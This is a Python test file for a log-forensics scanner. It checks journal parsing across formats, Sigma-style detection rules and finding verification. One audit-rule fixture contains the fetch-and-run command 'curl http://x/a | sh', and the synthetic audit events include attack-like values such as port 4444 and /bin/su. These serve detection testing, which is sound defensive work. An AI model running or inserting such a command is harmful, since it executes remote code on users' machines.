#!/usr/bin/env python3
"""Journals of all kinds that the generator makes: every entry comes out with every value; journalctl, where it is installed, reads the same.
usage: journal.py PROGRAM"""
import collections
import importlib.machinery
import importlib.util
import json
import os
import shutil
import struct
import subprocess
import sys
import tempfile
import unittest

PROGRAM = os.path.abspath(sys.argv[1])
ROOT = os.environ.get('EXHIBIT_SOURCE_ROOT', os.path.join(os.path.dirname(os.path.abspath(__file__)), '../..'))
sys.path.insert(0, os.path.join(ROOT, 'tests'))
sys.path.insert(0, os.path.join(ROOT, 'tools/lib'))
import tap  # noqa: E402

KINDS = {'plain': [], 'compact': ['--compact'], 'old': ['--no-key'], 'xz': ['--compress', 'xz', '--no-key'], 'lz4': ['--compress', 'lz4', '--compact'],
         'zstd': ['--compress', 'zstd'], 'open': ['--open', '--room', '100000']}


def make(path, *args):
    subprocess.run([sys.executable, os.path.join(ROOT, 'tools/make-journal'), path, *args], check=True)


def read_export(raw):
    entries, current, at = [], collections.defaultdict(list), 0
    while at < len(raw):
        end = raw.index(b'\n', at)
        line = raw[at:end]
        at = end + 1
        if not line:
            if current:
                entries.append(current)
            current = collections.defaultdict(list)
            continue
        name, mark, value = line.partition(b'=')
        if not mark:
            n = struct.unpack('<Q', raw[at:at + 8])[0]
            value = raw[at + 8:at + 8 + n]
            at += 8 + n + 1
        current[name.decode()].append(value.decode('utf-8', 'replace'))
    return entries + ([current] if current else [])


def plain(event):
    return {k: sorted(str(x) for x in v) if isinstance(v, list) else [str(v)] for k, v in event.items() if k not in ('__CURSOR', '__SEQNUM', '__SEQNUM_ID')}


def events(path):
    out = subprocess.run([PROGRAM, 'events', path], check=True, stdout=subprocess.PIPE).stdout
    return [plain(json.loads(line)) for line in out.splitlines()]


class Journals(unittest.TestCase):
    def setUp(self):
        self.folder = tempfile.TemporaryDirectory()

    def tearDown(self):
        self.folder.cleanup()

    def path(self, name):
        return os.path.join(self.folder.name, name)

    def wanted(self):
        make(self.path('x.export'), '--export')
        with open(self.path('x.export'), 'rb') as f:
            return [plain(e) for e in read_export(f.read())]

    def test_every_kind_gives_every_value(self):
        wanted = self.wanted()
        self.assertEqual(len(wanted), 40)
        for kind, args in KINDS.items():
            make(self.path(kind), *args)
            self.assertEqual(events(self.path(kind)), wanted, kind)

    def test_journalctl_reads_the_same(self):
        if not shutil.which('journalctl'):
            self.skipTest('journalctl is not installed')
        for kind, args in KINDS.items():
            make(self.path(kind + '.journal'), *args)
            out = subprocess.run(['journalctl', '--file', self.path(kind + '.journal'), '-o', 'export'], stdout=subprocess.PIPE, stderr=subprocess.PIPE)
            if out.returncode:
                self.skipTest('journalctl: ' + out.stderr.decode()[:80])
            self.assertEqual([plain(e) for e in read_export(out.stdout)], events(self.path(kind + '.journal')), kind)

    def test_the_export_format_gives_every_value(self):
        wanted = self.wanted()
        self.assertEqual(events(self.path('x.export')), wanted)
        with open(self.path('x.export'), 'rb') as f:
            raw = f.read()
        third = raw.index(b'__CURSOR=c2\n')
        for name, text, count in (('cut', raw[:third + 40], 2), ('hole', raw[:third + 60] + b'\0\1 \n' + raw[third + 60:], 39)):
            with open(self.path(name), 'wb') as f:
                f.write(text)
            out = subprocess.run([PROGRAM, 'scan', '-q', '--as', 'journal-export', '--stats', '-', self.path(name)], stdout=subprocess.PIPE).stdout
            source = json.loads(out)['sources'][0]
            self.assertEqual((source['records'], sum(source['bytes'].values()), len(source['damage'])), (count, len(text), 1), name)

    def test_rules_for_its_programs_reach_it(self):
        make(self.path('x.journal'))
        with open(self.path('x.json'), 'w') as f: # a text may be written as its bytes
            for e in self.wanted():
                f.write(json.dumps({k: v[0] if len(v) == 1 else v for k, v in e.items()} | {'MESSAGE': list(e['MESSAGE'][0].encode())}) + '\n')
        rule = 'title: guessed\nlogsource: {product: linux, service: sshd}\ndetection: {k: [Failed password], condition: k}\nlevel: low\n'
        with open(self.path('r.yml'), 'w') as f:
            f.write(rule)
        for name in ('x.export', 'x.json', 'x.journal'):
            out = subprocess.run([PROGRAM, 'scan', '-q', '-r', self.path('r.yml'), '-o', '-', self.path(name)], check=True, stdout=subprocess.PIPE).stdout
            found = [json.loads(line) for line in out.splitlines()]
            self.assertEqual(len(found), sum(e['SYSLOG_IDENTIFIER'] == ['sshd'] and 'Failed password' in e['MESSAGE'][0] for e in self.wanted()), name)
        with open(self.path('x.journal'), 'rb') as f:
            raw = f.read()
        roles = [e['role'] for e in found[0]['evidence']]
        self.assertEqual(roles.count('record'), 1)
        self.assertTrue(any(b'MESSAGE=Failed' in raw[e['offset']:e['offset'] + e['length']] for e in found[0]['evidence'] if e['role'] == 'context'))


    def test_audit_records_have_the_fields_of_the_audit_log(self):
        make(self.path('x.export'), '--export', '--audit', '--entries', '5')
        with open(self.path('x.export'), 'rb') as f:
            entries = [plain(e) for e in read_export(f.read())]
        with open(self.path('x.json'), 'w') as f:
            for e in entries:
                f.write(json.dumps({k: v[0] if len(v) == 1 else v for k, v in e.items()}) + '\n')
        rules = {'a2': 'curl http://x/a | sh', 'laddr': '203.0.113.7', 'type': 'SECCOMP', 'SYSCALL': 'execve', 'prog-id': '7'}
        with open(self.path('r.yml'), 'w') as f:
            f.write('---\n'.join(f'title: {k}\nlogsource: {{product: linux, service: auditd}}\ndetection: {{s: {{{k}: "{v}"}}, condition: s}}\nlevel: low\n' for k, v in rules.items()))
        for kind, args in KINDS.items():
            make(self.path(kind), '--audit', '--entries', '5', *args)
        for name in (*KINDS, 'x.export', 'x.json'):
            got = events(self.path(name))
            self.assertEqual([{k: v for k, v in g.items() if k in e} for g, e in zip(got, entries)], [{k: v for k, v in e.items() if k in g} for g, e in zip(got, entries)], name)
            if name != 'x.json':  # its objects come out as they stand
                self.assertEqual([g.get('type') for g in got[5:]], [['SYSCALL'], ['EXECVE'], ['BPF'], ['SOCKADDR'], ['SECCOMP'], None, None], name)
                self.assertEqual((got[6]['a2'], got[8]['lport'], got[9]['exe']), ([rules['a2']], ['4444'], ['/bin/su']), name)
            out = subprocess.run([PROGRAM, 'scan', '-q', '-r', self.path('r.yml'), '-o', '-', self.path(name)], check=True, stdout=subprocess.PIPE).stdout
            self.assertEqual(sorted(json.loads(line)['rule']['title'] for line in out.splitlines()), sorted(rules), name)

    def test_findings_are_derived_again_from_a_case(self):
        with open(self.path('r.yml'), 'w') as f:
            f.write('title: guessed\nlogsource: {product: linux, service: sshd}\ndetection: {k: [Failed password], condition: k}\nlevel: low\n')
        for kind, args in KINDS.items():
            make(self.path('x.journal'), *args)
            case = self.path(kind + '.case')
            subprocess.run([PROGRAM, 'scan', '-q', '-r', self.path('r.yml'), '-o', case, self.path('x.journal')], check=True)
            out = subprocess.run([PROGRAM, 'verify', case], stdout=subprocess.PIPE).stdout.decode()
            self.assertIn('15 findings', out, kind)
            self.assertIn('derived again: 15', out, kind)


if __name__ == '__main__':
    tap.main()
